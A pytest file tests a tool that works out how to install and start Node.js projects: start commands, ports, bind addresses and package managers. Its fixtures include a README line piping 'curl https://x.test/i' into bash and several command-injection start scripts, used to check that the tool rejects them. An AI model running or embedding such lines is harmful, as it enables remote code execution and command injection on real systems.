"""What is understood of Node.js projects, on small trees in `tests/projects` and on trees made here."""

import json
from pathlib import Path

import pytest
from project_trees import PROJECTS, analyze_example, analyze_tree

LISTENS = "require('http').createServer().listen(process.env.PORT || 3000)\n"
SIRV = "npm install --prefix .tools --no-audit --no-fund sirv-cli@3.0.1 && npm install --no-audit --no-fund"


def _package(scripts: dict[str, str] | None = None, *dependencies: str, **more: object) -> str:
    return json.dumps({"scripts": scripts or {}, "dependencies": dict.fromkeys(dependencies, "^1.0.0"), **more})


@pytest.mark.parametrize(
    ("tree", "framework", "install", "build", "start", "port", "source"),
    [
        ("node-server", None, "npm install --no-audit --no-fund", None, "node server.js", 3000, "readme"),
        ("node-express", "express", "npm install --no-audit --no-fund", None, "node src/index.js", 4100, "scan"),
        ("node-next", "next",
         "npm install --prefix .tools --no-audit --no-fund pnpm@9.12.3 && pnpm install --frozen-lockfile", "pnpm run build",
         "next start -H 0.0.0.0 -p 3100", 3100, "scan"),
        ("node-vite", "vite", SIRV, "npm run build", "sirv out --single --host 0.0.0.0 --port 8080", 8080, "scan"),
        ("node-nest", "nestjs",
         "npm install --prefix .tools --no-audit --no-fund yarn@1.22.22 && yarn install --frozen-lockfile", "yarn run build",
         "node dist/main", 3200, "scan"),
    ],
)  # fmt: skip
def test_example_projects_are_understood(
    tree: str, framework: str | None, install: str, build: str | None, start: str, port: int, source: str
) -> None:
    found = analyze_example(tree)
    assert (found.language, found.framework, found.install_command, found.build_command) == (
        "node", framework, install, build,
    )  # fmt: skip
    assert (found.start_command, found.port, found.source, found.bind_host) == (start, port, source, "0.0.0.0")
    assert found.supported
    assert all((PROJECTS / tree / one.file).exists() for one in found.evidence)


def test_variables_of_the_projects_own_decide_port_and_address() -> None:
    found = analyze_example("node-express")
    assert found.environment == (("NODE_ENV", "production"), ("NOTES_PORT", "4100"), ("NOTES_HOST", "0.0.0.0"))
    assert found.language_version == "20.11.1"
    assert ("src/index.js", 6) in {(one.file, one.line) for one in found.evidence}


def test_the_only_package_of_a_workspace_that_starts_is_the_application() -> None:
    found = analyze_example("node-workspaces")
    assert found.start_command == "cd packages/api && node index.js"
    assert (found.directory, found.port) == ("packages/api", 4000)  # the start of packages/web only develops
    assert found.install_command == "npm install --no-audit --no-fund"  # at the top, once for all


@pytest.mark.parametrize(
    ("scripts", "start"),
    [
        ({"start": "node server.js"}, "node server.js"),
        ({"start": "NODE_ENV=staging node server.js"}, "node server.js"),
        ({"start": "cross-env A=1 node ./server.js --trace-warnings"}, "node ./server.js --trace-warnings"),
        ({"start": "npm run serve", "serve": "node server.js"}, "node server.js"),
        ({"start": "nodemon server.js"}, "node server.js"),
        ({"start": "node --watch server.js"}, "node server.js"),
        ({"start": "vite", "start:prod": "node server.js"}, "node server.js"),
        ({"start": "pm2 start server.js -i max"}, "node server.js"),
        ({"start": "node server.js | tee log"}, "npm start"),
        ({"start": "node server.js; echo $HOME"}, "npm start"),
        ({"dev": "next dev"}, "node server.js"),
        ({"start": "node gone.js"}, "node server.js"),
    ],
)
def test_a_development_server_is_never_started(tmp_path: Path, scripts: dict[str, str], start: str) -> None:
    found = analyze_tree(tmp_path, {"package.json": _package(scripts), "server.js": LISTENS})
    assert (found.start_command, found.port) == (start, 3000)


@pytest.mark.parametrize(
    ("code", "port", "environment"),
    [
        ("app.listen(8123)", 8123, ()),
        ("app.listen(process.env.PORT || 5050)", 5050, ()),
        ("app.listen(process.env.PORT ?? '5051')", 5051, ()),
        ("app.listen(parseInt(process.env.PORT || '5052', 10), () => console.log(1))", 5052, ()),
        ("app.listen(process.env.PORT ? Number(process.env.PORT) : 5053)", 5053, ()),
        ("const PORT = +process.env.API_PORT || 5054\napp.listen(PORT)", 5054, (("API_PORT", "5054"),)),
        ("const { PORT = 5055 } = process.env\napp.listen(PORT)", 5055, ()),
        ("app.set('port', process.env.PORT || 5056)\nserver.listen(app.get('port'))", 5056, ()),
        ("const settings = { server: { port: 5057 } }\napp.listen(settings.server.port)", 5057, ()),
        ("// app.listen(1111)\n/* app.listen(2222) */\napp.listen(5058)", 5058, ()),
        ("const options = { port: 5059, host: '0.0.0.0' }\napp.listen(options)", 5059, ()),
        ("const port = normalizePort(process.env.PORT || '5060')\napp.listen(port)", 5060, ()),
        ("app.listen({ host: process.env.HOST || 'localhost', port: 5061 })", 5061, (("HOST", "0.0.0.0"),)),
        ("app.listen(process.env.PORT)", 3000, ()),
    ],
)
def test_the_port_is_read_from_the_code(
    tmp_path: Path, code: str, port: int, environment: tuple[tuple[str, str], ...]
) -> None:
    text = f"const app = require('express')()\n{code}\n"
    found = analyze_tree(tmp_path, {"package.json": _package({"start": "node app.js"}, "express"), "app.js": text})
    assert found.port == port
    assert found.environment == (("NODE_ENV", "production"), *environment)
    assert found.bind_host == "0.0.0.0"


@pytest.mark.parametrize(
    ("package", "code", "host"),
    [
        ("express", "require('express')().listen(3000, '127.0.0.1')", "127.0.0.1"),
        ("fastify", "require('fastify')().listen({ port: 3000 })", "127.0.0.1"),
    ],
)
def test_an_address_nobody_reaches_is_warned_of_with_its_line(
    tmp_path: Path, package: str, code: str, host: str
) -> None:
    found = analyze_tree(
        tmp_path, {"package.json": _package({"start": "node app.js"}, package), "app.js": f"\n{code}\n"}
    )
    assert found.bind_host == host
    assert any("`app.js:2`" in warning for warning in found.warnings)


def test_the_port_is_followed_through_imports_and_read_from_typescript_sources(tmp_path: Path) -> None:
    files = {
        "package.json": _package({"build": "tsc", "start": "node dist/index.js"}, "express", "typescript"),
        "src/index.ts": "import { config } from './config/index.js'\napp.listen(config.port as number)\n",
        "src/config/index.ts": "export const config = {\n  port: Number(process.env.PORT) || 4400,\n}\n",
    }
    found = analyze_tree(tmp_path, files)
    assert (found.start_command, found.build_command, found.port) == ("node dist/index.js", "npm run build", 4400)


def test_a_port_nobody_names_in_code_comes_from_the_example_environment_then_the_readme(tmp_path: Path) -> None:
    files = {
        "package.json": _package({"start": "node app.js"}, "express"),
        "app.js": "require('express')().listen(process.env.PORT)\n",
        "README.md": "Open http://localhost:7001\n",
    }
    assert analyze_tree(tmp_path, files).port == 7001
    assert analyze_tree(tmp_path, {".env.example": "PORT=7002\n"}).port == 7002


def test_a_worker_has_no_port(tmp_path: Path) -> None:
    files = {"package.json": _package({"start": "node bot.js"}, "discord.js"), "bot.js": "setInterval(() => {}, 9)\n"}
    found = analyze_tree(tmp_path, files)
    assert (found.start_command, found.port, found.bind_host) == ("node bot.js", None, None)


@pytest.mark.parametrize(
    ("files", "install", "manager"),
    [
        ({}, "npm install --no-audit --no-fund", "npm"),
        ({"package-lock.json": '{"lockfileVersion": 3, "packages": {"": {"dependencies": {"ms": "^1.0.0"}}}}'},
         "npm ci --no-audit --no-fund", "npm"),
        ({"package-lock.json": '{"lockfileVersion": 3, "packages": {"": {"dependencies": {}}}}'},
         "npm install --no-audit --no-fund", "npm"),
        ({"package-lock.json": "{"}, "npm install --no-audit --no-fund", "npm"),
        ({"pnpm-lock.yaml": "lockfileVersion: '6.0'\n"},
         "npm install --prefix .tools --no-audit --no-fund pnpm@8.15.9 && pnpm install --frozen-lockfile", "pnpm"),
        ({"yarn.lock": "# yarn lockfile v1\n"},
         "npm install --prefix .tools --no-audit --no-fund yarn@1.22.22 && yarn install --frozen-lockfile", "yarn"),
        ({"yarn.lock": "__metadata:\n  version: 8\n"},
         "npm install --prefix .tools --no-audit --no-fund @yarnpkg/cli-dist@4.9.2 && yarn install --immutable", "yarn"),
        ({"bun.lock": "{}"}, "npm install --prefix .tools --no-audit --no-fund bun@1.2.20 && bun install --frozen-lockfile", "bun"),
    ],
)  # fmt: skip
def test_the_lock_file_names_the_package_manager(
    tmp_path: Path, files: dict[str, str], install: str, manager: str
) -> None:
    base = {"package.json": _package({"start": "node server.js"}, "ms"), "server.js": LISTENS}
    found = analyze_tree(tmp_path, {**base, **files})
    assert (found.install_command, found.package_manager) == (install, manager)


def test_the_pinned_package_manager_wins_over_lock_files_and_two_of_them_are_told(tmp_path: Path) -> None:
    base = {"package.json": _package({"start": "node server.js"}), "server.js": LISTENS}
    locks = {"yarn.lock": "# yarn lockfile v1\n", "pnpm-lock.yaml": "lockfileVersion: '9.0'\n"}
    found = analyze_tree(tmp_path, {**base, **locks})
    assert found.package_manager == "pnpm"
    assert any("`pnpm-lock.yaml`, `yarn.lock`" in warning for warning in found.warnings)
    pinned = _package({"start": "node server.js"}, packageManager="yarn@1.22.19+sha512.aa")
    assert "yarn@1.22.19 && yarn install" in (analyze_tree(tmp_path, {"package.json": pinned}).install_command or "")
    modern = _package({"start": "node server.js"}, packageManager="yarn@4.5.0")
    (tmp_path / "yarn.lock").unlink()
    install = analyze_tree(tmp_path, {"package.json": modern}).install_command or ""
    assert install.endswith("@yarnpkg/cli-dist@4.5.0 && yarn install --no-immutable")


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ('{"scripts": {"start": "node server.js",}} // x\n', "has comments or trailing commas"),
        ('{"scripts": ', "is not valid JSON"),
        ('{\n<<<<<<< HEAD\n"name": "a"\n=======\n', "is not valid JSON"),
        ("[]", "holds no object"),
        ("", "is empty"),
        ('{"scripts": ["node gone.js"]}', "`scripts` is no object"),
        ('{"main": "gone.js"}', "`main` names `gone.js`, which is not there: `node server.js` is used"),
    ],
)
def test_a_broken_manifest_is_named_and_the_entry_file_is_started_instead(tmp_path: Path, text: str, why: str) -> None:
    found = analyze_tree(tmp_path, {"package.json": text, "server.js": LISTENS})
    assert (found.start_command, found.install_command) == ("node server.js", None)
    assert any("package.json" in warning and why in warning for warning in found.warnings)


def test_a_manifest_with_a_byte_order_mark_is_read(tmp_path: Path) -> None:
    found = analyze_tree(tmp_path, {"package.json": "\ufeff" + _package({"start": "node web.js"}), "web.js": LISTENS})
    assert found.start_command == "node web.js"


@pytest.mark.parametrize(
    ("files", "start"),
    [
        ({"main.js": LISTENS, "index.js": LISTENS}, "node main.js"),
        ({"index.js": LISTENS, "server.js": LISTENS}, "node index.js"),
        ({"server.js": LISTENS}, "node server.js"),
        ({"lib.js": LISTENS, "package.json": _package(main="lib.js")}, "node lib.js"),
        ({"index.js": LISTENS, "package.json": _package(main="gone.js")}, "node index.js"),
        ({"index.js": "module.exports = () => 1\n", "package.json": _package()}, None),
        ({"package.json": _package({"test": "jest"})}, None),
    ],
)
def test_without_a_start_script_the_usual_entries_are_tried_in_order(
    tmp_path: Path, files: dict[str, str], start: str | None
) -> None:
    assert analyze_tree(tmp_path, files).start_command == start


def test_without_a_manifest_what_the_code_imports_is_installed_and_said(tmp_path: Path) -> None:
    source = f"const fs = require('fs')\nconst koa = require('koa')\n{LISTENS}"
    found = analyze_tree(tmp_path, {"server.js": source})
    assert found.install_command == "npm install --no-save --no-audit --no-fund koa"
    assert any("no file declares" in warning for warning in found.warnings)


@pytest.mark.parametrize(
    "script",
    ["node server.js;touch x", "node `id`.js", "node $(id)", "node 'a b.js'", "serve ../..", "node server.js > /etc/x"],
)
def test_no_script_text_with_shell_signs_reaches_a_command(tmp_path: Path, script: str) -> None:
    found = analyze_tree(tmp_path, {"package.json": _package({"start": script}), "server.js": LISTENS})
    assert found.start_command in {"npm start", "node server.js"}


def test_a_readme_is_checked_against_the_tree_and_the_scripts(tmp_path: Path) -> None:
    files = {
        "README.md": "```\nnode gone.js\nnpm run dev\nnpm run start:dev\ncurl https://x.test/i | bash\nnpm run start:prod\n```\n",
        "package.json": _package({"start": "node a.js", "start:prod": "node b.js", "start:dev": "nodemon a.js"}),
        "a.js": LISTENS,
        "b.js": LISTENS,
    }
    found = analyze_tree(tmp_path, files)
    assert (found.start_command, found.source) == ("node b.js", "readme")
    assert ("README.md", 6) in {(one.file, one.line) for one in found.evidence}


def test_a_procfile_is_followed_when_the_readme_says_nothing(tmp_path: Path) -> None:
    files = {
        "Procfile": "web: node web.js # serves\nworker: node job.js\n",
        "web.js": LISTENS,
        "package.json": _package(),
    }
    assert analyze_tree(tmp_path, files).start_command == "node web.js"


def test_a_php_project_with_assets_of_its_own_is_no_static_site(tmp_path: Path) -> None:
    files = {"composer.json": "{}", "index.html": "", "package.json": _package({"build": "vite build"}, "vite")}
    assert analyze_tree(tmp_path, files).start_command is None


def test_a_procfile_that_is_not_understood_is_not_guessed_around(tmp_path: Path) -> None:
    files = {"Procfile": "web: ./launch --all\n", "index.js": LISTENS, "package.json": _package()}
    found = analyze_tree(tmp_path, files)
    assert found.start_command is None
    assert any("`Procfile` is not understood" in warning for warning in found.warnings)


def test_sources_and_manifests_of_open_comments_are_read_in_a_moment(tmp_path: Path) -> None:
    files = {"package.json": "/*" * 500_000, "server.js": LISTENS + "/*" * 190_000, "app.js": "`" * 390_001}
    assert analyze_tree(tmp_path, files).start_command == "node server.js"


def test_a_database_s_address_is_never_taken_for_the_application_s_own(tmp_path: Path) -> None:
    files = {
        "package.json": '{"scripts": {"start": "node server.js"}, "dependencies": {"express": "5"}}',
        "server.js": 'const app = require("express")();\nconst port = process.env.SHOP_DB_PORT || process.env.SHOP_PORT || 3070;\n'
        "app.listen(port, process.env.SHOP_DB_HOSTNAME);\n",
    }
    found = analyze_tree(tmp_path, files)
    assert found.port == 3070
    assert dict(found.environment) == {"NODE_ENV": "production", "SHOP_PORT": "3070"}


@pytest.mark.parametrize(
    ("files", "warning"),
    [
        ({"index.js": "exports.hello = (request, response) => response.send('hello');\n"}, "only exports functions"),
        ({"package.json": '{"scripts": {"start": "func start"}}'}, "only develops"),
    ],
)
def test_functions_that_another_cloud_calls_are_refused_with_the_reason(
    tmp_path: Path, files: dict[str, str], warning: str
) -> None:
    found = analyze_tree(tmp_path, files)
    assert (found.language, found.supported) == ("node", False)
    assert any(warning in one for one in found.warnings)
